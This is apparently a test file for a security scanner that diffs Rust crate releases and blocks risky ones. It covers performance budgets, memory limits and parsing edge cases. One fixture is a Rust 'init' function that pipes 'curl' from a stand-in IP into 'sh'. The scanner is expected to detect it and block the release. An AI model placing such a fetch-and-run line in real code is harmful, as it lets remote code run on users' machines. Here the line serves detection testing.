import { describe, expect, it } from 'vitest';
import { analyzeTrees } from '../src/index.js';
import { treeFromFiles } from '../src/source/index.js';
import { manifest } from './helpers/fixture.js';
// The generators and the child-process measurement are the benchmark's own (npm run bench:nesting).
// @ts-expect-error plain ES module without types
import { KINDS, measure } from '../bench/nesting.mjs';

type Row = { kind: string; ms: number; cpuMs: number; maxRssMb: number; verdict: string; unanalysed: number; error?: string; timings: { parseMs: number; diffMs: number } };

const DEPTH = 50_000;
// Generous margins over the targets (5 s and 500 MB per scan on an idle 2-core machine): CPU time,
// not wall time, because the tests share the machine with other work.
const CPU_MS = 30_000; // measured on a busy machine (load ~20): up to 21 s for impl; idle: 6 s
const RSS_MB = 1536;

describe('deep nesting costs time and memory linear in the input', () => {
  it.each(Object.keys(KINDS as Record<string, unknown>))('%s nested 50 000 deep: a diff scan within the margins, fully analysed', (kind) => {
    const r = measure(kind, DEPTH, 'diff', 180_000) as Row;
    expect(r.error).toBeUndefined();
    expect(r.cpuMs).toBeLessThan(CPU_MS);
    expect(r.maxRssMb).toBeLessThan(RSS_MB);
    // Analysed, not skipped: no file left to an unanalysed-code finding.
    expect(r.unanalysed).toBe(0);
  }, 200_000);

  it('the generators nest as deep as asked', () => {
    const gens = KINDS as Record<string, (n: number, tag: string) => string>;
    for (const gen of Object.values(gens)) expect(gen(20, 'x').length).toBeLessThan(gen(40, 'x').length);
    // 50 000 levels of `mod m {` are 50 000 modules, each one item.
    const { report } = analyzeTrees(treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), 'src/lib.rs': '' }), treeFromFiles({ 'Cargo.toml': manifest('0.1.1'), 'src/lib.rs': gens.mod(2000, '') }));
    expect(report.summary.itemsAdded).toBeGreaterThanOrEqual(2001);
  });
});

describe('a slow file cannot push a payload out of the analysis', () => {
  const payload = 'pub fn init() {\n    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s http://203.0.113.7/x | sh").status();\n}\n';
  // 207 KB of nested modules in a file that sorts before the payload's.
  const deep = `${'mod m {\n'.repeat(20_700)}${'}\n'.repeat(20_700)}`;
  const trees = () => ({
    old: treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), 'src/lib.rs': 'pub mod a;\npub mod z;\n', 'src/a.rs': '', 'src/z.rs': 'pub fn init() {}\n' }),
    neu: treeFromFiles({ 'Cargo.toml': manifest('0.1.1'), 'src/lib.rs': 'pub mod a;\npub mod z;\n', 'src/a.rs': deep, 'src/z.rs': payload }),
  });

  it('with the default budgets the payload is analysed and the release blocked', () => {
    const { old, neu } = trees();
    const t0 = performance.now();
    const { report } = analyzeTrees(old, neu);
    expect(performance.now() - t0).toBeLessThan(60_000);
    expect(report.verdict).toBe('block');
    expect(report.findings.some((f) => f.file === 'src/z.rs' && f.ruleId === 'shell-exec')).toBe(true);
    expect(report.summary.partialFiles).toEqual([]);
  }, 90_000);

  it('when the scan budget runs out, the code it left unanalysed blocks the release', () => {
    const { old, neu } = trees();
    const { report } = analyzeTrees(old, neu, { parse: { fileBudgetMs: 10_000, crateBudgetMs: 1 } });
    const starved = report.findings.filter((f) => f.ruleId === 'unanalysed-code' && f.severity === 'critical');
    expect(starved.length).toBeGreaterThan(0);
    expect(report.verdict).toBe('block');
    // Never a lower score than the same release without the slow file.
    const { old: o2, neu: n2 } = trees();
    n2.files.delete('src/a.rs');
    o2.files.delete('src/a.rs');
    const without = analyzeTrees(o2, n2).report;
    expect(without.verdict).toBe('block');
    expect(report.score).toBeGreaterThanOrEqual(without.score);
  }, 60_000);

  it('the build script and the library root are parsed before other changed files', async () => {
    const { parseOrder } = await import('../src/diff/release.js');
    const neu = treeFromFiles({ 'Cargo.toml': manifest('0.1.1'), 'build.rs': 'fn main() {}', 'src/lib.rs': '', 'src/a.rs': 'x', 'src/b.rs': 'y', 'tests/t.rs': 'z' });
    const old = treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), 'build.rs': 'fn main() {}', 'src/lib.rs': '', 'src/a.rs': 'x', 'src/b.rs': 'old', 'tests/t.rs': 'old' });
    expect(parseOrder([...neu.files.keys()].sort(), neu, 'build.rs', false, 'src/lib.rs', old)).toEqual(['build.rs', 'src/lib.rs', 'src/b.rs', 'tests/t.rs', 'src/a.rs']);
  });
});

describe('the per-file budget covers fact extraction', () => {
  it('a file whose walk runs past its budget is reported unanalysed, not hung on', async () => {
    const { parseSource } = await import('../src/parse/parser.js');
    const src = `pub fn f() {\n${'    g(1, 2, 3);\n'.repeat(200_000)}}\n`;
    // 1 ms covers no 3 MB parse and walk: whichever of the two runs out, the file is reported.
    const r = parseSource(Buffer.from(src), 'h', { fileBudgetMs: 1, crateBudgetMs: 60_000 }, true);
    expect(r.facts.unparsed).toBe(true);
    expect(r.facts.partialReason).toMatch(/budget/);
  });
});


describe('edition 2024 extern blocks', () => {
  it('`unsafe extern` and `safe fn` are blanked for the parser only, keeping every offset', async () => {
    const { blankEdition2024 } = await import('../src/parse/edition.js');
    const src = 'unsafe extern "C" {\n  pub safe fn system(c: *const u8) -> i32;\n  // }\n  #[link_name = "x}"] unsafe static Y: i32;\n}\nunsafe extern "C" fn g() {}\n';
    const out = blankEdition2024(src);
    expect(out.length).toBe(src.length);
    expect(out).toBe('       extern "C" {\n  pub      fn system(c: *const u8) -> i32;\n  // }\n  #[link_name = "x}"]        static Y: i32;\n}\nunsafe extern "C" fn g() {}\n');
    expect(blankEdition2024('pub fn safe() {}')).toBe('pub fn safe() {}');
  });

  it('declarations in an `unsafe extern` block are items and calls to them resolve', () => {
    const lib = 'unsafe extern "C" {\n    pub safe fn system(c: *const i8) -> i32;\n}\npub fn run() {\n    system(c"id".as_ptr());\n}\n';
    const { report, delta } = analyzeTrees(treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), 'src/lib.rs': '' }), treeFromFiles({ 'Cargo.toml': manifest('0.1.1'), 'src/lib.rs': lib }));
    expect(report.summary.partialFiles).toEqual([]);
    const sys = delta.new.rust.get('src/lib.rs')!.facts.items.find((i) => i.name === 'system');
    expect(sys?.foreign).toBe(true);
    expect(sys?.span.line).toBe(2);
  });
});

describe('memory stays proportional to the source', () => {
  it('two 2 MiB files scan within a bound per source byte, under a small heap cap, without a crash', async () => {
    // @ts-expect-error plain ES module without types
    const { measureMemory } = await import('../bench/memory.mjs');
    // The same measurement as `npm run bench:memory` (7 files of 31 MiB), at 1/54 of the size: the
    // figure documented in docs/security.md is ~75 MB per MiB of source at its peak.
    const r = (await measureMemory(2, 2, 1024, 300_000)) as { maxRssMb: number; partial: number; error?: string };
    expect(r.error).toBeUndefined();
    expect(r.partial).toBe(0);
    expect(r.maxRssMb).toBeLessThan(4 * 150 + 400);
  }, 320_000);

  it('a release larger than the heap can analyse is reported and blocked, not a V8 abort', async () => {
    // @ts-expect-error plain ES module without types
    const { measureMemory } = await import('../bench/memory.mjs');
    // 6 MiB of source under a 128 MB heap: before the memory budget this aborted the process.
    const r = (await measureMemory(6, 1, 128, 300_000)) as { verdict: string; partial: number; error?: string };
    expect(r.error).toBeUndefined();
    expect(r.partial).toBeGreaterThan(0);
    expect(r.verdict).toBe('block');
  }, 320_000);
});
